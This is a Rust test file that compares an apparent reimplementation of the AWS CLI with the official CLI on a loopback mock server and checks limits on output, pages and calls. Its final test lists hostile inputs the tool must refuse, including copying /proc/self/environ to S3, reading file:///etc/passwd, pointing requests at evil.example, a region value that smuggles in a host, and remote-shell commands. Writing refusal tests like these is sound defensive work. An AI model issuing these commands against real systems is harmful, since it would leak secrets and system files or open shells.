//! The same commands through the official AWS CLI and through this crate, against one server on loopback that answers
//! both alike: what is asked, what is printed and the exit status must be equal.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::PathBuf;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use awscli::files::MemoryFiles;
use awscli::session::{Budget, Credentials, NoJournal, Output, Session, Tokens};
use awscli::transport::HttpClient;

use crate::witness;

/// One response of the server: status, headers, body.
type Response = (u16, &'static [(&'static str, &'static str)], &'static str);

const XML: &[(&str, &str)] = &[("Content-Type", "text/xml")];
const JSON: &[(&str, &str)] = &[("Content-Type", "application/x-amz-json-1.0")];

/// What one command asked and gave.
#[derive(Debug, PartialEq)]
struct Seen {
    requests: Vec<String>,
    stdout: String,
    stderr: String,
    status: i32,
}

/// Answers with canned responses, in order and the last one for ever, and notes what is asked.
struct Server {
    address: String,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Server {
    fn start(responses: &'static [Response]) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
        let address = format!("http://{}", listener.local_addr().expect("the listener has an address"));
        let requests = Arc::new(Mutex::new(Vec::new()));
        let noted = Arc::clone(&requests);
        // The thread ends with the test's process.
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                // A client that goes away in the middle shows in what it prints.
                drop(serve(stream, responses, &noted));
            }
        });
        Self { address, requests }
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().expect("no test panics while it notes").clone()
    }
}

fn serve(stream: TcpStream, responses: &[Response], noted: &Mutex<Vec<String>>) -> std::io::Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut line = String::new();
    reader.read_line(&mut line)?;
    let mut noted_lines = vec![line.trim_end().to_owned()];
    let mut length = 0;
    loop {
        let mut header = String::new();
        if reader.read_line(&mut header)? == 0 || header.trim_end().is_empty() {
            break;
        }
        let (name, value) = header.trim_end().split_once(": ").unwrap_or((header.trim_end(), ""));
        match name.to_ascii_lowercase().as_str() {
            "content-length" => length = value.parse().unwrap_or(0),
            name @ ("content-type" | "x-amz-target") => noted_lines.push(format!("{name}: {value}")),
            _ => {}
        }
    }
    noted_lines[1..].sort();
    let mut body = vec![0; length];
    reader.read_exact(&mut body)?;
    noted_lines.push(String::from_utf8_lossy(&body).into_owned());
    let number = {
        let mut noted = noted.lock().expect("no test panics while it notes");
        noted.push(noted_lines.join("\n"));
        noted.len()
    };
    let Some((status, headers, body)) = responses.get(number - 1).or(responses.last()) else { return Ok(()) };
    let headers: String = headers.iter().map(|(name, value)| format!("{name}: {value}\r\n")).collect();
    let length = body.len();
    let mut stream = stream;
    write!(
        stream,
        "HTTP/1.1 {status} -\r\n{headers}Content-Length: {length}\r\nConnection: close\r\n\r\n{body}"
    )
}

/// Runs the official CLI in an empty environment.
fn official(words: &[&str], responses: &'static [Response]) -> Seen {
    let server = Server::start(responses);
    let program = witness::path("awscli-v2/awscli/v2/current/dist/aws");
    let nowhere = PathBuf::from("/nonexistent");
    let output = Command::new(program)
        .args(words)
        .args(["--endpoint-url", &server.address])
        .env_clear()
        .envs([
            ("AWS_ACCESS_KEY_ID", "AKIDEXAMPLE"),
            ("AWS_SECRET_ACCESS_KEY", "secret"),
            ("AWS_SESSION_TOKEN", "token"),
            ("AWS_REGION", "eu-west-1"),
            ("AWS_EC2_METADATA_DISABLED", "true"),
            ("TZ", "UTC"),
            ("LANG", "C.UTF-8"),
        ])
        .env("HOME", &nowhere)
        .output()
        .expect("the official CLI starts");
    Seen {
        requests: server.requests(),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        status: output.status.code().unwrap_or(-1),
    }
}

/// As much as any of the commands needs.
fn budget() -> Budget {
    Budget {
        deadline: Instant::now() + Duration::from_secs(60),
        reserve: Duration::from_secs(1),
        calls: 20,
        pages: 20,
        output_bytes: 1 << 20,
        read_bytes: 1 << 20,
    }
}

/// Runs the command in this process and gives what was asked, too.
fn run(words: &[&str], responses: &'static [Response], budget: Budget) -> (Vec<String>, Output) {
    let server = Server::start(responses);
    let http = HttpClient::new().expect("a client");
    let session = Session {
        credentials: Credentials {
            access_key_id: "AKIDEXAMPLE".into(),
            secret_access_key: "secret".into(),
            session_token: Some("token".into()),
            account_id: None,
        },
        region: Some("eu-west-1".into()),
        endpoint: Some(server.address.parse().expect("an URL")),
        http: &http,
        files: &MemoryFiles::new(0),
        stdin: Default::default(),
        budget,
        journal: &NoJournal,
        tokens: Tokens::Fixed(uuid::Uuid::nil()),
        hide_secrets: false,
        clock: None,
        park: None,
    };
    let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    let output = runtime.block_on(awscli::run(&words, &session));
    (server.requests(), output)
}

fn ours(words: &[&str], responses: &'static [Response]) -> Seen {
    let (requests, output) = run(words, responses, budget());
    Seen {
        requests,
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: output.stderr,
        status: output.exit_status,
    }
}

const IDENTITY: Response = (
    200,
    XML,
    "<GetCallerIdentityResponse><GetCallerIdentityResult><Arn>arn:aws:sts::111111111111:assumed-role/R/S</Arn>\
     <UserId>AROA:S</UserId><Account>111111111111</Account></GetCallerIdentityResult></GetCallerIdentityResponse>",
);
const INSTANCES: Response = (
    200,
    XML,
    "<DescribeInstancesResponse><reservationSet><item><reservationId>r-1</reservationId><instancesSet>\
     <item><instanceId>i-1</instanceId><launchTime>2024-02-01T02:26:39.000Z</launchTime><ebsOptimized>true</ebsOptimized>\
     <instanceState><code>16</code><name>running</name></instanceState>\
     <tagSet><item><key>Name</key><value>web ü</value></item></tagSet></item>\
     <item><instanceId>i-2</instanceId><instanceState><code>80</code><name>stopped</name></instanceState></item>\
     </instancesSet></item></reservationSet></DescribeInstancesResponse>",
);
const TABLES: &[Response] = &[
    (200, JSON, r#"{"TableNames":["aaa","bbb"],"LastEvaluatedTableName":"bbb"}"#),
    (200, JSON, r#"{"TableNames":["ccc"]}"#),
];
const OBJECTS: Response = (
    200,
    XML,
    "<ListBucketResult><Name>bucket</Name><IsTruncated>false</IsTruncated><Contents><Key>logs/a%20b.txt</Key>\
     <LastModified>2020-01-02T03:04:05.000Z</LastModified><Size>1536</Size></Contents><CommonPrefixes>\
     <Prefix>logs/x/</Prefix></CommonPrefixes></ListBucketResult>",
);
const NO_OBJECTS: Response =
    (200, XML, "<ListBucketResult><IsTruncated>false</IsTruncated></ListBucketResult>");
const BUCKETS: Response = (
    200,
    XML,
    "<ListAllMyBucketsResult><Buckets><Bucket><Name>b1</Name><CreationDate>2020-01-02T03:04:05.000Z</CreationDate>\
     </Bucket></Buckets><Owner><ID>o</ID></Owner></ListAllMyBucketsResult>",
);
const DENIED_XML: Response = (
    403,
    XML,
    "<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>not &lt;you&gt;</Message></Error>\
     <RequestId>r</RequestId></ErrorResponse>",
);
const CONDITION_FAILED: Response = (
    400,
    JSON,
    r#"{"__type":"com.amazonaws.dynamodb.v20120810#ConditionalCheckFailedException","message":"no","Item":{"a":{"S":"x"}}}"#,
);
const ITEM: Response = (200, JSON, r#"{"Item":{"n":{"N":"1"},"id":{"S":"x"},"b":{"B":"AAE="}}}"#);
const LOG_GROUPS: Response = (
    200,
    JSON,
    r#"{"logGroups":[{"logGroupName":"/aws/a","creationTime":1700000000000,"storedBytes":5,"arn":"arn:a"},{"logGroupName":"/aws/b"}]}"#,
);
const FUNCTIONS: Response = (
    200,
    JSON,
    r#"{"Functions":[{"FunctionName":"f","MemorySize":128},{"FunctionName":"g"}],"NextMarker":null}"#,
);

#[test]
fn commands_ask_print_and_end_as_in_the_official_cli() {
    let none: &[Response] = &[];
    let cases: &[(&[&str], &'static [Response])] = &[
        (&["sts", "get-caller-identity"], &[IDENTITY]),
        (&["sts", "get-caller-identity", "--output", "text", "--query", "[Account,Arn]"], &[IDENTITY]),
        (&["sts", "get-caller-identity", "--query", "length(Nope)"], &[IDENTITY]),
        (&["ec2", "describe-instances"], &[INSTANCES]),
        (
            &[
                "ec2",
                "describe-instances",
                "--instance-id",
                "i-1",
                "--filters",
                "Name=a,Values=b,c",
                "--output",
                "table",
            ],
            &[INSTANCES],
        ),
        (
            &[
                "ec2",
                "describe-instances",
                "--query",
                "Reservations[].Instances[].{State:State.Name,Id:InstanceId}",
            ],
            &[INSTANCES],
        ),
        (&["dynamodb", "list-tables"], TABLES),
        (&["dynamodb", "list-tables", "--max-items", "1"], TABLES),
        (&["dynamodb", "list-tables", "--no-paginate"], TABLES),
        (&["dynamodb", "list-tables", "--output", "text"], TABLES),
        (&["dynamodb", "get-item", "--table-name", "ttt", "--key", r#"{"id":{"S":"x"}}"#], &[ITEM]),
        (
            &[
                "dynamodb",
                "put-item",
                "--table-name",
                "ttt",
                "--item",
                r#"{"id":{"S":"ü"}}"#,
                "--condition-expression",
                "x",
            ],
            &[CONDITION_FAILED],
        ),
        (&["iam", "get-user", "--user-name", "u"], &[DENIED_XML]),
        (&["logs", "describe-log-groups", "--output", "table"], &[LOG_GROUPS]),
        (&["lambda", "list-functions", "--max-items", "1"], &[FUNCTIONS]),
        (&["s3api", "list-buckets"], &[BUCKETS]),
        (&["s3", "ls"], &[BUCKETS]),
        (&["s3", "ls", "s3://bucket/logs/"], &[OBJECTS]),
        (&["s3", "ls", "bucket", "--recursive", "--human-readable", "--summarize"], &[OBJECTS]),
        (&["s3", "ls", "s3://bucket/nope"], &[NO_OBJECTS]),
        (&["s3", "ls", "--nope"], none),
        (&["ec2", "describe-instance"], none),
        (&["nope", "describe-instances"], none),
        (&["ec2"], none),
        (&["ec2", "describe-instances", "--nope"], none),
        (&["ec2", "describe-instances", "--filterz", "x", "--instance-idz"], none),
        (&["ec2", "describe-instances", "--query", "Reservations["], none),
        (&["iam", "create-role", "--role-name", "r"], none),
        (&["ec2", "describe-instances", "--max-results", "x"], none),
        (&["ec2", "describe-instances", "--output", "nope"], none),
        (&["dynamodb", "describe-table", "--table-name", ""], none),
    ];
    let mut failures = Vec::new();
    for (words, responses) in cases {
        let (theirs, ours) = (official(words, responses), ours(words, responses));
        if theirs != ours {
            failures.push(format!("aws {}\n  official {theirs:#?}\n  ours {ours:#?}", words.join(" ")));
        }
    }
    assert!(failures.is_empty(), "{} of {} differ:\n{}", failures.len(), cases.len(), failures.join("\n"));
}

#[test]
fn output_beyond_the_budget_is_cut_and_said_to_be() {
    let words = ["dynamodb", "list-tables"];
    let (_, whole) = run(&words, TABLES, budget());
    let length = whole.stdout.len();
    for (limit, kept, cut) in
        [(length + 1, length, false), (length, length, false), (length - 1, length - 1, true)]
    {
        let (_, output) = run(&words, TABLES, Budget { output_bytes: limit, ..budget() });
        assert_eq!((output.stdout.len(), output.truncated.is_some()), (kept, cut), "limit {limit}");
        assert_eq!(output.stdout, whole.stdout[..kept]);
    }
}

#[test]
fn pages_beyond_the_budget_are_left_for_a_next_token() {
    for (pages, cut) in [(3, false), (2, false), (1, true)] {
        let (requests, output) = run(&["dynamodb", "list-tables"], TABLES, Budget { pages, ..budget() });
        let stdout = String::from_utf8_lossy(&output.stdout);
        assert_eq!(requests.len(), pages.min(2) as usize);
        assert_eq!((output.truncated.is_some(), stdout.contains("NextToken")), (cut, cut), "{stdout}");
        assert_eq!(output.exit_status, 0);
    }
}

#[test]
fn nothing_is_sent_without_calls_or_time_left() {
    let now = Instant::now();
    for budget in [
        Budget { calls: 0, ..budget() },
        Budget { deadline: now, ..budget() },
        Budget { deadline: now + Duration::from_secs(5), reserve: Duration::from_secs(6), ..budget() },
    ] {
        let (requests, output) = run(&["sts", "get-caller-identity"], &[IDENTITY], budget);
        assert_eq!((requests.len(), output.exit_status, output.calls), (0, 130, 0), "{}", output.stderr);
        assert!(output.unknown_calls.is_empty());
    }
}

#[test]
fn commands_for_the_host_are_refused_without_a_request() {
    for words in [
        &["configure", "set", "credential_process", "x"][..],
        &["ssm", "start-session", "--target", "i-1"],
        &["ecs", "execute-command", "--cluster", "c", "--command", "sh", "--interactive"],
        &["s3", "cp", "/proc/self/environ", "s3://b/"],
        &[
            "machinelearning",
            "predict",
            "--ml-model-id",
            "x",
            "--record",
            "a=b",
            "--predict-endpoint",
            "http://evil.example",
        ],
        &["sts", "get-caller-identity", "--endpoint-url", "http://evil.example"],
        &["sts", "get-caller-identity", "--region", "x@evil.example:443/#"],
        &["iam", "create-policy", "--policy-name", "p", "--policy-document", "file:///etc/passwd"],
    ] {
        let (requests, output) = run(words, &[IDENTITY], budget());
        assert!(requests.is_empty() && output.stdout.is_empty(), "{words:?}");
        assert!([252, 255].contains(&output.exit_status), "{words:?}: {}", output.stderr);
        assert!(!output.stderr.contains("root:"), "{words:?}: {}", output.stderr);
    }
}
